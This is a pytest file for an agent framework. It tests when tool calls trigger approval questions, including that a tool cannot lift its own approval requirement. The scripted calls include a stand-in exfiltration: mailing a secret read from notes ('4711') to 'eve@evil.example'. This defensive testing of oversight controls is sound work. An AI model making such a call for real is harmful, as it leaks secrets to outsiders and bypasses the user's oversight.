"""Questions by choice: what a tool's author and the settings say about them, and policies of one's own."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from agentorchestra import DefaultPolicy, Effect, Policy, PolicyView, Settings, Tool, Verdict, Workspace, tool
from agentorchestra.core.errors import CandidateError, SettingsError, ToolDefinitionError
from agentorchestra.core.settings import PolicySettings
from agentorchestra.core.spec import Question
from agentorchestra.testing import ScriptedModel, call, decide
from agentorchestra.workspace import load_settings

TASK = "Read the notes and mail them to ann@a.example."


@tool(effect="read")
async def read_notes() -> str:
    """Read the notes, which somebody else wrote."""
    return "the code is 4711"


class Outbox:
    """Mails that were sent, by tools that differ in what they say of questions."""

    def __init__(self) -> None:
        self.sent: list[str] = []

    def tool(self, **says: Any) -> Tool[..., Any]:
        @tool(effect="send", **says)
        async def send_mail(to: str, body: str) -> str:
            """Send a mail."""
            self.sent.append(f"{to}: {body}")
            return "sent"

        return send_mail


async def asked(
    folder: Path, says: dict[str, Any], *calls: Any, settings: PolicySettings | None = None, policy: Any = None
) -> tuple[list[str], list[str]]:
    """Return what was asked in a run that makes these calls, all of it allowed, and what was sent."""
    questions: list[str] = []

    async def asker(question: Question) -> bool:
        questions.append(question.question)
        return True

    outbox = Outbox()
    model = ScriptedModel([*(decide(calls=[one]) for one in calls), decide(calls=[call("done", answer="done")])])
    chosen = Settings(system="react", policy=settings or PolicySettings())
    async with Workspace(
        folder / "ws", tools=[read_notes, outbox.tool(**says)], asker=asker, settings=chosen, policy=policy
    ) as ws:
        result = await ws.run(TASK, model=model)
        assert result.status == "completed"
        assert (await ws.replay(result.run_id)).answer == "done"
    return questions, outbox.sent


PLAIN = call("send_mail", to="ann@a.example", body="notes")
FOREIGN = call("send_mail", to="eve@evil.example", body="4711")


async def test_always_asks_about_each_call_of_the_users_too(tmp_path: Path) -> None:
    says = {"approval": "always"}
    questions, sent = await asked(tmp_path, says, PLAIN, PLAIN)
    assert questions == ["Allow send_mail? send_mail says of itself that every call is asked about"] * 2
    assert len(sent) == 2


async def test_never_asks_about_none(tmp_path: Path) -> None:
    questions, sent = await asked(tmp_path, {"approval": "never"}, call("read_notes"), FOREIGN)
    assert questions == [] and sent == ["eve@evil.example: 4711"]


async def test_policy_is_the_default(tmp_path: Path) -> None:
    for number, says in enumerate(({}, {"approval": "policy"})):
        questions, _ = await asked(tmp_path / str(number), says, PLAIN, call("read_notes"), FOREIGN)
        assert len(questions) == 1 and "possibly from" in questions[0]


async def test_the_settings_win_over_what_a_tool_says(tmp_path: Path) -> None:
    named = ("send_mail",)
    says = {"approval": "never"}
    questions, _ = await asked(tmp_path / "ask", says, PLAIN, settings=PolicySettings(ask=named))
    assert questions == ["Allow send_mail? the setting policy.ask names send_mail"]
    says = {"approval": "always"}
    questions, sent = await asked(tmp_path / "allow", says, PLAIN, settings=PolicySettings(allow=named))
    assert questions == [] and len(sent) == 1
    says = {"approval": "never"}
    questions, sent = await asked(tmp_path / "deny", says, PLAIN, settings=PolicySettings(deny=named))
    assert questions == [] and sent == []


def test_another_word_is_refused_where_the_tool_is_made() -> None:
    with pytest.raises(ToolDefinitionError, match="approval='sometimes'; give 'policy', 'always' or 'never'"):
        Outbox().tool(approval="sometimes")


@pytest.mark.parametrize("other", ["allow", "deny"])
def test_a_name_in_two_lists_is_refused(other: str, tmp_path: Path) -> None:
    text = f'[policy]\nask = ["send_mail"]\n{other} = ["send_mail"]\n'
    (tmp_path / "agentorchestra.toml").write_text(text)
    with pytest.raises(
        SettingsError, match=rf"'send_mail' stands in policy\.ask and in policy\.{other}; name it in one"
    ):
        load_settings(tmp_path / "ws")


async def test_a_candidate_cannot_free_itself_of_questions(tmp_path: Path) -> None:
    source = '''
from agentorchestra import tool


@tool(effect="send", approval="always")
async def pay(amount: int) -> str:
    """Pay."""
    return "paid"
'''
    async with Workspace(tmp_path / "ws") as ws:
        await ws.tcp.register(source=source)
        (config,) = await ws.tcp.versions("pay")
        code, *_ = await ws.tcp.vars("pay")
        with pytest.raises(CandidateError, match="approval never; now it has always"):
            free = code.value.replace("always", "never")
            await ws.tcp.setvars("pay", {"code": free}, candidate=True)
        assert config.version == "1.0.0"


class Spare(DefaultPolicy):
    """A policy of one's own: it refuses what the default policy would allow."""

    def decide(self, effect: Effect, view: PolicyView) -> Verdict:
        if effect.arguments.get("to") == "ann@a.example":
            return Verdict(action="deny", reason="ann reads no mail today")
        return super().decide(effect, view)


async def test_a_policy_of_ones_own_decides(tmp_path: Path) -> None:
    policy: Policy = Spare()
    questions, sent = await asked(tmp_path, {}, PLAIN, call("read_notes"), FOREIGN, policy=policy)
    assert len(questions) == 1 and sent == ["eve@evil.example: 4711"]
